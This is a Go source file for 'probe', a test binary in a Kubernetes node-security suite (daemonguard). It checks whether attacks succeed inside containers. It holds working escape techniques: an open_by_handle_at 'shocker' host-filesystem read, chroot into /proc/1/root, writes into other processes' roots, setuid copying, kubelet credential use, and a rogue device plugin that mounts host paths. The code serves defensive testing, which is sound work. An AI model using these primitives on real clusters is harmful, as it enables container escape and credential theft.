// Command probe is the one program in the node suite's images: a static
// binary that does one thing on the node (read, write, connect, list
// processes, plant, check its mounts...) and reports what it saw as one JSON
// line, so a test asserts on what really happened inside a container rather
// than on what the API says.
//
// The report goes to stdout prefixed "DGRESULT " (the suite reads it from the
// container's log file in the node's scratch root) and to
// /dev/termination-log (status.containerStatuses[].state.terminated.message).
//
//	probe [-hold] STEPS-JSON
//
// STEPS-JSON is an array of steps, each an array of strings: the operation
// and its arguments, e.g. [["read","/host/etc/key"],["connect","/run/x.sock"]];
// ${VARS} in arguments are expanded from the environment.
// Every step runs even if an earlier one failed; each reports ok/err. With
// -hold the probe keeps running after the report (a DaemonSet's container
// must not exit). `probe pause` is the pod sandbox's pause process.
package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"github.com/daemonguard/daemonguard/test/internal/node/proberesult"
)

// Result, Step and Identity are the report's types.
type (
	Result   = proberesult.Result
	Step     = proberesult.Step
	Identity = proberesult.Identity
)

// maxOut bounds one step's output: the whole report stays one log line
// (containerd splits lines over 16 KiB).
const maxOut = 2048

func main() {
	args := os.Args[1:]
	if len(args) == 1 && args[0] == "pause" {
		pause()
		return
	}
	hold := false
	if len(args) > 0 && args[0] == "-hold" {
		hold, args = true, args[1:]
	}
	if len(args) != 1 {
		fmt.Fprintln(os.Stderr, "usage: probe [-hold] STEPS-JSON | probe pause")
		os.Exit(2)
	}
	var steps [][]string
	if err := json.Unmarshal([]byte(args[0]), &steps); err != nil {
		fmt.Fprintf(os.Stderr, "probe: steps: %v\n", err)
		os.Exit(2)
	}
	res := Result{Identity: identity()}
	for _, s := range steps {
		res.Steps = append(res.Steps, run(s))
	}
	line, _ := json.Marshal(res)
	fmt.Printf("%s%s\n", proberesult.Prefix, line)
	// The kubelet reads at most 4096 bytes of the termination message; the
	// log line is the full report.
	msg := line
	if len(msg) > 4000 {
		msg = msg[:4000]
	}
	_ = os.WriteFile("/dev/termination-log", msg, 0o644)
	if hold {
		pause()
	}
}

// pause sleeps until SIGTERM or SIGINT, reaping children: the pod
// sandbox's process, and what a DaemonSet container does after its report.
func pause() {
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGTERM, syscall.SIGINT)
	<-sig
}

func run(s []string) (st Step) {
	st.Op = s
	defer func() {
		if r := recover(); r != nil {
			st.OK, st.Err = false, fmt.Sprintf("panic: %v", r)
		}
	}()
	if len(s) == 0 {
		st.Err = "empty step"
		return st
	}
	// Arguments may name the downward API's environment (${POD_NAME}...);
	// only the braced form, so a shell script's "$@" stays as written.
	args := make([]string, len(s)-1)
	for i, a := range s[1:] {
		args[i] = expandBraced(a)
	}
	out, err := op(s[0], args)
	if len(out) > maxOut {
		out = out[:maxOut] + "...(truncated)"
	}
	st.Out = out
	if err != nil {
		st.Err = err.Error()
		var errno syscall.Errno
		if errors.As(err, &errno) {
			st.Errno = errnoName(errno)
		}
		return st
	}
	st.OK = true
	return st
}

func need(args []string, n int) error {
	if len(args) < n {
		return fmt.Errorf("want %d arguments, got %d", n, len(args))
	}
	return nil
}

func op(name string, a []string) (string, error) {
	switch name {
	case "read": // read PATH: the first 4 KiB and the sha256 of the whole file
		if err := need(a, 1); err != nil {
			return "", err
		}
		b, err := os.ReadFile(a[0])
		if err != nil {
			return "", err
		}
		sum := sha256.Sum256(b)
		if len(b) > 4096 {
			b = b[:4096]
		}
		return "sha256:" + hex.EncodeToString(sum[:]) + "\n" + string(b), nil
	case "write": // write PATH CONTENT [MODE-octal]
		if err := need(a, 2); err != nil {
			return "", err
		}
		mode := os.FileMode(0o644)
		if len(a) > 2 {
			m, err := strconv.ParseUint(a[2], 8, 32)
			if err != nil {
				return "", err
			}
			mode = os.FileMode(m)
		}
		if err := os.WriteFile(a[0], []byte(a[1]), mode); err != nil {
			return "", err
		}
		return "", os.Chmod(a[0], mode)
	case "mkdir": // mkdir PATH
		if err := need(a, 1); err != nil {
			return "", err
		}
		return "", os.MkdirAll(a[0], 0o755)
	case "rename": // rename FROM TO
		if err := need(a, 2); err != nil {
			return "", err
		}
		return "", os.Rename(a[0], a[1])
	case "remove": // remove PATH (recursively)
		if err := need(a, 1); err != nil {
			return "", err
		}
		return "", os.RemoveAll(a[0])
	case "symlink": // symlink TARGET LINK: replaces LINK, whatever it was
		if err := need(a, 2); err != nil {
			return "", err
		}
		if err := os.RemoveAll(a[1]); err != nil {
			return "", err
		}
		return "", os.Symlink(a[0], a[1])
	case "ls": // ls DIR
		if err := need(a, 1); err != nil {
			return "", err
		}
		entries, err := os.ReadDir(a[0])
		if err != nil {
			return "", err
		}
		var names []string
		for _, e := range entries {
			names = append(names, e.Name())
		}
		return strings.Join(names, "\n"), nil
	case "open": // open PATH: open read-only and read a few bytes (devices)
		if err := need(a, 1); err != nil {
			return "", err
		}
		f, err := os.OpenFile(a[0], os.O_RDONLY|syscall.O_NONBLOCK, 0)
		if err != nil {
			return "", err
		}
		defer f.Close()
		buf := make([]byte, 64)
		n, err := f.Read(buf)
		if err != nil && !errors.Is(err, io.EOF) && !errors.Is(err, syscall.EAGAIN) {
			return "", fmt.Errorf("opened, but read: %w", err)
		}
		return fmt.Sprintf("opened, read %d bytes", n), nil
	case "connect": // connect SOCKET: a unix socket accepts a connection
		if err := need(a, 1); err != nil {
			return "", err
		}
		c, err := net.DialTimeout("unix", a[0], 5*time.Second)
		if err != nil {
			return "", err
		}
		c.Close()
		return "connected", nil
	case "http-get": // http-get SOCKET URLPATH: plain HTTP over a unix socket
		if err := need(a, 2); err != nil {
			return "", err
		}
		return httpGetUnix(a[0], a[1])
	case "grpc": // grpc SOCKET /pkg.Service/Method [REQUEST-HEX]: one unary call, h2c over a unix socket
		if err := need(a, 2); err != nil {
			return "", err
		}
		var req []byte
		if len(a) > 2 {
			var err error
			if req, err = hex.DecodeString(a[2]); err != nil {
				return "", err
			}
		}
		return grpcUnary(a[0], a[1], req)
	case "containerd-version": // containerd-version SOCKET: containerd's Version API
		if err := need(a, 1); err != nil {
			return "", err
		}
		out, err := grpcUnary(a[0], "/containerd.services.version.v1.Version/Version", nil)
		if err != nil {
			return out, err
		}
		return decodeStrings(out)
	case "kubelet-register": // kubelet-register SOCKET RESOURCE: the device plugin Registration API
		if err := need(a, 2); err != nil {
			return "", err
		}
		// RegisterRequest{version=1: "v0-daemonguard", endpoint=2: "x.sock", resource_name=3: RESOURCE}:
		// an unsupported version, so the kubelet answers without registering anything.
		req := pbString(1, "v0-daemonguard")
		req = append(req, pbString(2, "daemonguard-probe.sock")...)
		req = append(req, pbString(3, a[1])...)
		return grpcUnary(a[0], "/v1beta1.Registration/Register", req)
	case "connect-read": // connect-read SOCKET: connect and read what the server says first
		if err := need(a, 1); err != nil {
			return "", err
		}
		c, err := net.DialTimeout("unix", a[0], 5*time.Second)
		if err != nil {
			return "", err
		}
		defer c.Close()
		_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
		b, err := io.ReadAll(io.LimitReader(c, 4096))
		if len(b) > 0 {
			return string(b), nil
		}
		return "", err
	case "copy": // copy SRC DST MODE-octal: a file, with its mode (setuid included)
		if err := need(a, 3); err != nil {
			return "", err
		}
		b, err := os.ReadFile(a[0])
		if err != nil {
			return "", err
		}
		mode, err := strconv.ParseUint(a[2], 8, 32)
		if err != nil {
			return "", err
		}
		if err := os.WriteFile(a[1], b, 0o700); err != nil {
			return "", err
		}
		// Chmod, not the create mode: the umask would drop the setuid bit.
		if err := os.Chmod(a[1], os.FileMode(mode&0o777)|modeBits(mode)); err != nil {
			return "", err
		}
		st, err := os.Stat(a[1])
		if err != nil {
			return "", err
		}
		return st.Mode().String(), nil
	case "handle-read": // handle-read FS-FILE PATH: read PATH from the root of FS-FILE's filesystem, opened by file handle
		if err := need(a, 2); err != nil {
			return "", err
		}
		return handleRead(a[0], a[1])
	case "note": // note ANYTHING: does nothing; labels the process's command line
		return strings.Join(a, " "), nil
	case "device-plugin": // device-plugin SOCKET ENDPOINT KUBELET-SOCK RESOURCE HOST-PATH CONTAINER-PATH
		// Serves a device plugin on SOCKET (kept while the probe holds)
		// that advertises one device of RESOURCE and, for every container
		// allocated one, has the kubelet mount HOST-PATH read-only at
		// CONTAINER-PATH; registers it with the kubelet at ENDPOINT
		// (relative to the kubelet's device-plugins directory).
		if err := need(a, 6); err != nil {
			return "", err
		}
		if err := serveDevicePlugin(a[0], a[4], a[5]); err != nil {
			return "", err
		}
		req := pbString(1, "v1beta1")
		req = append(req, pbString(2, a[1])...)
		req = append(req, pbString(3, a[3])...)
		out, err := grpcUnary(a[2], "/v1beta1.Registration/Register", req)
		if err == nil && strings.HasPrefix(out, "grpc-status") {
			err = errors.New(out)
		}
		return "registered " + a[3] + " at " + a[1] + " (response " + strconv.Quote(out) + ")", err
	case "ps": // ps: pids and command lines of every process this probe can see
		return ps()
	case "procroot-write": // procroot-write MATCH PATH CONTENT: write PATH inside the root of the process whose command line contains MATCH
		if err := need(a, 3); err != nil {
			return "", err
		}
		pid, err := findPid(a[0])
		if err != nil {
			return "", err
		}
		p := filepath.Join("/proc", strconv.Itoa(pid), "root", a[1])
		if err := os.WriteFile(p, []byte(a[2]), 0o644); err != nil {
			return "", err
		}
		return fmt.Sprintf("wrote %s (pid %d)", p, pid), nil
	case "procroot-read": // procroot-read MATCH PATH: read PATH inside the root of the process whose command line contains MATCH
		if err := need(a, 2); err != nil {
			return "", err
		}
		pid, err := findPid(a[0])
		if err != nil {
			return "", err
		}
		return op("read", []string{filepath.Join("/proc", strconv.Itoa(pid), "root", a[1])})
	case "chroot-exec": // chroot-exec ROOT CMD ARGS...: chroot (e.g. to /proc/1/root) and run a command there
		if err := need(a, 2); err != nil {
			return "", err
		}
		if err := syscall.Chroot(a[0]); err != nil {
			return "", err
		}
		if err := os.Chdir("/"); err != nil {
			return "", err
		}
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, a[1], a[2:]...)
		// The image's PATH is /; the new root's programs are in the usual places.
		cmd.Env = []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"}
		out, err := cmd.CombinedOutput()
		return string(out), err
	case "mount-tmpfs": // mount-tmpfs DIR
		if err := need(a, 1); err != nil {
			return "", err
		}
		if err := os.MkdirAll(a[0], 0o755); err != nil {
			return "", err
		}
		return "", syscall.Mount("tmpfs", a[0], "tmpfs", 0, "size=1m")
	case "mounts": // mounts SPEC-JSON: each {path, readOnly} exists and is mounted so
		if err := need(a, 1); err != nil {
			return "", err
		}
		return checkMounts(a[0])
	case "cgroup": // cgroup: the memory limit and cpu shares the runtime set (cgroup v1, or v2)
		return cgroupLimits()
	case "wait-file": // wait-file PATH SECONDS: until PATH exists; its content
		if err := need(a, 2); err != nil {
			return "", err
		}
		secs, err := strconv.Atoi(a[1])
		if err != nil {
			return "", err
		}
		deadline := time.Now().Add(time.Duration(secs) * time.Second)
		for {
			b, err := os.ReadFile(a[0])
			if err == nil {
				return string(b), nil
			}
			if time.Now().After(deadline) {
				return "", err
			}
			time.Sleep(200 * time.Millisecond)
		}
	case "sleep": // sleep SECONDS
		if err := need(a, 1); err != nil {
			return "", err
		}
		secs, err := strconv.Atoi(a[0])
		if err != nil {
			return "", err
		}
		time.Sleep(time.Duration(secs) * time.Second)
		return "", nil
	case "kubeconfig-get": // kubeconfig-get KUBECONFIG URLPATH: an API request with the file's credentials
		if err := need(a, 2); err != nil {
			return "", err
		}
		return kubeconfigGet(a[0], a[1])
	case "exec": // exec CMD ARGS...: run a program of the image (e.g. the setuid copy)
		if err := need(a, 1); err != nil {
			return "", err
		}
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		out, err := exec.CommandContext(ctx, a[0], a[1:]...).CombinedOutput()
		return string(out), err
	}
	return "", fmt.Errorf("unknown operation %q", name)
}

func errnoName(e syscall.Errno) string {
	names := map[syscall.Errno]string{
		syscall.EACCES: "EACCES", syscall.EPERM: "EPERM", syscall.EROFS: "EROFS", syscall.ENOENT: "ENOENT",
		syscall.ECONNREFUSED: "ECONNREFUSED", syscall.EEXIST: "EEXIST", syscall.EINVAL: "EINVAL",
		syscall.ENOTDIR: "ENOTDIR", syscall.EISDIR: "EISDIR", syscall.EBUSY: "EBUSY", syscall.ENXIO: "ENXIO",
	}
	if n, ok := names[e]; ok {
		return n
	}
	return strconv.Itoa(int(e))
}

func identity() Identity {
	id := Identity{UID: os.Getuid(), EUID: os.Geteuid(), GID: os.Getgid(), EGID: os.Getegid()}
	id.Groups, _ = os.Getgroups()
	if b, err := os.ReadFile("/proc/self/status"); err == nil {
		for _, line := range strings.Split(string(b), "\n") {
			k, v, ok := strings.Cut(line, ":")
			if !ok {
				continue
			}
			switch k {
			case "CapEff":
				id.CapEff = strings.TrimSpace(v)
			case "NoNewPrivs":
				id.NoNewPrivs = strings.TrimSpace(v)
			}
		}
	}
	return id
}

func ps() (string, error) {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return "", err
	}
	var pids []int
	for _, e := range entries {
		if pid, err := strconv.Atoi(e.Name()); err == nil {
			pids = append(pids, pid)
		}
	}
	// In pid order: the node's daemons (low pids) come first, before the
	// report's size limit.
	sort.Ints(pids)
	var lines []string
	for _, pid := range pids {
		b, err := os.ReadFile(filepath.Join("/proc", strconv.Itoa(pid), "cmdline"))
		if err != nil || len(b) == 0 {
			continue
		}
		lines = append(lines, fmt.Sprintf("%d %s", pid, strings.TrimSpace(strings.ReplaceAll(string(b), "\x00", " "))))
	}
	return strings.Join(lines, "\n"), nil
}

// findPid is the lowest pid other than this one whose command line contains
// match.
func findPid(match string) (int, error) {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return 0, err
	}
	var pids []int
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == os.Getpid() {
			continue
		}
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err != nil {
			continue
		}
		cmd := strings.ReplaceAll(string(b), "\x00", " ")
		// Not another probe looking for the same thing.
		if strings.Contains(cmd, match) && !strings.Contains(cmd, "procroot-") {
			pids = append(pids, pid)
		}
	}
	if len(pids) == 0 {
		return 0, fmt.Errorf("no process whose command line contains %q", match)
	}
	sort.Ints(pids)
	return pids[0], nil
}

// MountCheck is one mount a container declares.
type MountCheck struct {
	Path     string `json:"path"`
	ReadOnly bool   `json:"readOnly"`
}

// checkMounts verifies each declared mount: it exists, the mount at that
// path is ro or rw as declared (from /proc/self/mountinfo), and a write into
// a read-only directory fails with EROFS. It writes nothing into a writable
// mount: those are the node's files.
func checkMounts(spec string) (string, error) {
	var want []MountCheck
	if err := json.Unmarshal([]byte(spec), &want); err != nil {
		return "", err
	}
	info, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		return "", err
	}
	opts := map[string]string{}
	for _, line := range strings.Split(string(info), "\n") {
		f := strings.Fields(line)
		if len(f) < 6 {
			continue
		}
		opts[unescapeMount(f[4])] = f[5] // later mounts at the same point win, as in the kernel
	}
	var out []string
	var problems []string
	for _, m := range want {
		st, err := os.Lstat(m.Path)
		if err != nil {
			problems = append(problems, fmt.Sprintf("%s: %v", m.Path, err))
			continue
		}
		o, mounted := opts[filepath.Clean(m.Path)]
		ro := false
		for _, x := range strings.Split(o, ",") {
			ro = ro || x == "ro"
		}
		line := fmt.Sprintf("%s mounted=%v ro=%v mode=%s", m.Path, mounted, ro, st.Mode())
		if !mounted {
			problems = append(problems, m.Path+": not a mount point")
		} else if ro != m.ReadOnly {
			problems = append(problems, fmt.Sprintf("%s: mounted ro=%v, declared readOnly=%v", m.Path, ro, m.ReadOnly))
		}
		if m.ReadOnly && st.IsDir() {
			f := filepath.Join(m.Path, ".daemonguard-probe-write")
			err := os.WriteFile(f, nil, 0o644)
			var errno syscall.Errno
			switch {
			case err == nil:
				_ = os.Remove(f)
				problems = append(problems, m.Path+": read-only, but a write succeeded")
			case errors.As(err, &errno):
				// EROFS; a pseudo-filesystem (proc) may refuse the create first.
				line += " write=" + errnoName(errno)
			default:
				problems = append(problems, fmt.Sprintf("%s: read-only, but the write failed with %v", m.Path, err))
			}
		}
		out = append(out, line)
	}
	if len(problems) > 0 {
		return strings.Join(out, "\n"), errors.New(strings.Join(problems, "; "))
	}
	return strings.Join(out, "\n"), nil
}

// unescapeMount undoes mountinfo's octal escapes (\040 for a space).
func unescapeMount(s string) string {
	if !strings.Contains(s, `\`) {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+3 < len(s) {
			if n, err := strconv.ParseUint(s[i+1:i+4], 8, 8); err == nil {
				b.WriteByte(byte(n))
				i += 3
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

func cgroupLimits() (string, error) {
	var out []string
	for _, f := range []string{
		"/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/cpu/cpu.shares", "/sys/fs/cgroup/cpu/cpu.cfs_quota_us",
		"/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/cpu.weight", "/sys/fs/cgroup/cpu.max",
	} {
		if b, err := os.ReadFile(f); err == nil {
			out = append(out, filepath.Base(f)+"="+strings.TrimSpace(string(b)))
		}
	}
	if len(out) == 0 {
		return "", errors.New("no cgroup limit files found")
	}
	return strings.Join(out, "\n"), nil
}

func httpGetUnix(socket, path string) (string, error) {
	hc := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, "unix", socket)
		},
	}}
	resp, err := hc.Get("http://localhost" + path)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
	return fmt.Sprintf("%s\n%s", resp.Status, b), nil
}

// grpcUnary makes one unary gRPC call over HTTP/2 without TLS on a unix
// socket, with the standard library alone: a length-prefixed message in, the
// response message out as hex (or the grpc-message of a failed call, which
// is still an answer from the server).
func grpcUnary(socket, method string, req []byte) (string, error) {
	var protos http.Protocols
	protos.SetUnencryptedHTTP2(true)
	tr := &http.Transport{
		Protocols: &protos,
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, "unix", socket)
		},
	}
	defer tr.CloseIdleConnections()
	body := make([]byte, 5+len(req))
	binary.BigEndian.PutUint32(body[1:5], uint32(len(req)))
	copy(body[5:], req)
	hreq, err := http.NewRequest(http.MethodPost, "http://localhost"+method, bytes.NewReader(body))
	if err != nil {
		return "", err
	}
	hreq.Header.Set("Content-Type", "application/grpc")
	hreq.Header.Set("TE", "trailers")
	hc := &http.Client{Transport: tr, Timeout: 10 * time.Second}
	resp, err := hc.Do(hreq)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if err != nil {
		return "", err
	}
	status := resp.Trailer.Get("Grpc-Status")
	if status == "" {
		status = resp.Header.Get("Grpc-Status")
	}
	msg := resp.Trailer.Get("Grpc-Message")
	if msg == "" {
		msg = resp.Header.Get("Grpc-Message")
	}
	if status != "" && status != "0" {
		return "grpc-status " + status + ": " + msg, nil
	}
	if len(b) < 5 {
		return "", fmt.Errorf("short gRPC response (%d bytes, HTTP %s)", len(b), resp.Status)
	}
	return hex.EncodeToString(b[5:]), nil
}

// pbString encodes a protobuf string field.
func pbString(field int, s string) []byte { return pbBytes(field, []byte(s)) }

// decodeStrings renders a protobuf message of string fields (hex in) as
// "field=value" lines.
func decodeStrings(hexMsg string) (string, error) {
	b, err := hex.DecodeString(hexMsg)
	if err != nil {
		return hexMsg, err
	}
	var out []string
	for len(b) > 0 {
		key, n := binary.Uvarint(b)
		if n <= 0 || key&7 != 2 {
			return hexMsg, errors.New("not a message of strings")
		}
		b = b[n:]
		l, n := binary.Uvarint(b)
		if n <= 0 || int(l) > len(b)-n {
			return hexMsg, errors.New("truncated message")
		}
		out = append(out, fmt.Sprintf("%d=%s", key>>3, b[n:n+int(l)]))
		b = b[n+int(l):]
	}
	return strings.Join(out, "\n"), nil
}

// kubeconfigGet reads a kubeconfig with embedded client credentials (as the
// kubelet's is) and makes one GET with them.
func kubeconfigGet(file, path string) (string, error) {
	b, err := os.ReadFile(file)
	if err != nil {
		return "", err
	}
	fields := map[string]string{}
	sc := bufio.NewScanner(bytes.NewReader(b))
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		k, v, ok := strings.Cut(strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(sc.Text()), "- ")), ":")
		if !ok {
			continue
		}
		if _, seen := fields[k]; !seen {
			fields[k] = strings.Trim(strings.TrimSpace(v), `"'`)
		}
	}
	dec := func(k string) []byte {
		d, _ := base64.StdEncoding.DecodeString(fields[k])
		return d
	}
	cert, err := tls.X509KeyPair(dec("client-certificate-data"), dec("client-key-data"))
	if err != nil {
		return "", fmt.Errorf("client credentials in %s: %w", file, err)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(dec("certificate-authority-data"))
	hc := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		TLSClientConfig: &tls.Config{Certificates: []tls.Certificate{cert}, RootCAs: pool},
	}}
	resp, err := hc.Get(fields["server"] + path)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 2048))
	return fmt.Sprintf("%s\n%s", resp.Status, body), nil
}

// serveDevicePlugin serves the kubelet's DevicePlugin API (v1beta1) on a
// unix socket, over HTTP/2 without TLS, with the standard library alone.
func serveDevicePlugin(socket, hostPath, containerPath string) error {
	_ = os.Remove(socket)
	l, err := net.Listen("unix", socket)
	if err != nil {
		return err
	}
	// Device{ID=1: "evil-0", health=2: "Healthy"} in ListAndWatchResponse{devices=1}.
	device := append(pbString(1, "evil-0"), pbString(2, "Healthy")...)
	listResp := pbBytes(1, device)
	// ContainerAllocateResponse{envs=1: {DAEMONGUARD_INJECTED: 1}, mounts=2: Mount{container_path=1, host_path=2, read_only=3: true}}.
	mount := append(pbString(1, containerPath), pbString(2, hostPath)...)
	mount = append(mount, 0x18, 1)
	env := pbBytes(1, append(pbString(1, "DAEMONGUARD_INJECTED"), pbString(2, "by a device plugin")...))
	containerResp := append(env, pbBytes(2, mount)...)

	mux := http.NewServeMux()
	unary := func(resp func(req []byte) []byte) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			body, _ := io.ReadAll(r.Body)
			var req []byte
			if len(body) >= 5 {
				req = body[5:]
			}
			writeGRPC(w, resp(req))
			w.Header().Set(http.TrailerPrefix+"Grpc-Status", "0")
		}
	}
	mux.HandleFunc("/v1beta1.DevicePlugin/GetDevicePluginOptions", unary(func([]byte) []byte { return nil }))
	mux.HandleFunc("/v1beta1.DevicePlugin/PreStartContainer", unary(func([]byte) []byte { return nil }))
	mux.HandleFunc("/v1beta1.DevicePlugin/GetPreferredAllocation", unary(func([]byte) []byte { return nil }))
	mux.HandleFunc("/v1beta1.DevicePlugin/Allocate", unary(func(req []byte) []byte {
		// One ContainerAllocateResponse per ContainerAllocateRequest
		// (field 1 of AllocateRequest).
		var out []byte
		for _, f := range pbFields(req) {
			if f == 1 {
				out = append(out, pbBytes(1, containerResp)...)
			}
		}
		return out
	}))
	mux.HandleFunc("/v1beta1.DevicePlugin/ListAndWatch", func(w http.ResponseWriter, r *http.Request) {
		writeGRPC(w, listResp)
		if f, ok := w.(http.Flusher); ok {
			f.Flush()
		}
		<-r.Context().Done()
	})
	var protos http.Protocols
	protos.SetUnencryptedHTTP2(true)
	srv := &http.Server{Handler: mux, Protocols: &protos, ReadHeaderTimeout: 10 * time.Second}
	go func() { _ = srv.Serve(l) }()
	return nil
}

// writeGRPC writes one length-prefixed gRPC message.
func writeGRPC(w http.ResponseWriter, msg []byte) {
	w.Header().Set("Content-Type", "application/grpc")
	frame := make([]byte, 5+len(msg))
	binary.BigEndian.PutUint32(frame[1:5], uint32(len(msg)))
	copy(frame[5:], msg)
	_, _ = w.Write(frame)
}

// pbBytes encodes a length-delimited protobuf field (a string, bytes or an
// embedded message).
func pbBytes(field int, b []byte) []byte {
	out := binary.AppendUvarint(nil, uint64(field<<3|2))
	out = binary.AppendUvarint(out, uint64(len(b)))
	return append(out, b...)
}

// pbFields lists the field numbers of a message's length-delimited and
// varint fields, in order (enough to count repeated entries).
func pbFields(b []byte) []int {
	var out []int
	for len(b) > 0 {
		key, n := binary.Uvarint(b)
		if n <= 0 {
			return out
		}
		b = b[n:]
		switch key & 7 {
		case 0:
			_, n = binary.Uvarint(b)
			if n <= 0 {
				return out
			}
			b = b[n:]
		case 2:
			l, n := binary.Uvarint(b)
			if n <= 0 || int(l) > len(b)-n {
				return out
			}
			b = b[n+int(l):]
		default:
			return out
		}
		out = append(out, int(key>>3))
	}
	return out
}

// modeBits maps the setuid, setgid and sticky bits of an octal mode to Go's.
func modeBits(mode uint64) os.FileMode {
	var m os.FileMode
	if mode&0o4000 != 0 {
		m |= os.ModeSetuid
	}
	if mode&0o2000 != 0 {
		m |= os.ModeSetgid
	}
	if mode&0o1000 != 0 {
		m |= os.ModeSticky
	}
	return m
}

// handleRead opens the root directory of fsFile's filesystem by file
// handle (open_by_handle_at, which needs CAP_DAC_READ_SEARCH: the
// "shocker" escape) and reads path relative to it. The handle is ext4's
// for inode 2 (the root) with generation 0, which ext4 does not check.
// No mount is involved: the root is the filesystem's, outside any
// container's (or node's) mount namespace.
func handleRead(fsFile, path string) (string, error) {
	mount, err := os.Open(fsFile)
	if err != nil {
		return "", err
	}
	defer mount.Close()
	handle := struct {
		bytes uint32
		typ   int32
		ino   uint32
		gen   uint32
	}{bytes: 8, typ: 1 /* FILEID_INO32_GEN */, ino: 2}
	const sysOpenByHandleAt = 304 // amd64
	fd, _, errno := syscall.Syscall(sysOpenByHandleAt, mount.Fd(), uintptr(unsafe.Pointer(&handle)), syscall.O_RDONLY|syscall.O_DIRECTORY)
	if errno != 0 {
		return "", fmt.Errorf("open_by_handle_at: %w", errno)
	}
	root := os.NewFile(fd, "/")
	defer root.Close()
	f, err := syscall.Openat(int(root.Fd()), strings.TrimPrefix(path, "/"), syscall.O_RDONLY, 0)
	if err != nil {
		return "", fmt.Errorf("openat %s: %w", path, err)
	}
	file := os.NewFile(uintptr(f), path)
	defer file.Close()
	b, err := io.ReadAll(io.LimitReader(file, 4096))
	if err != nil {
		return "", err
	}
	sum := sha256.Sum256(b)
	return "sha256:" + hex.EncodeToString(sum[:]) + "\n" + string(b), nil
}

// expandBraced replaces ${NAME} with the environment variable NAME.
func expandBraced(s string) string {
	var b strings.Builder
	for {
		i := strings.Index(s, "${")
		if i < 0 {
			b.WriteString(s)
			return b.String()
		}
		j := strings.Index(s[i:], "}")
		if j < 0 {
			b.WriteString(s)
			return b.String()
		}
		b.WriteString(s[:i])
		b.WriteString(os.Getenv(s[i+2 : i+j]))
		s = s[i+j+1:]
	}
}
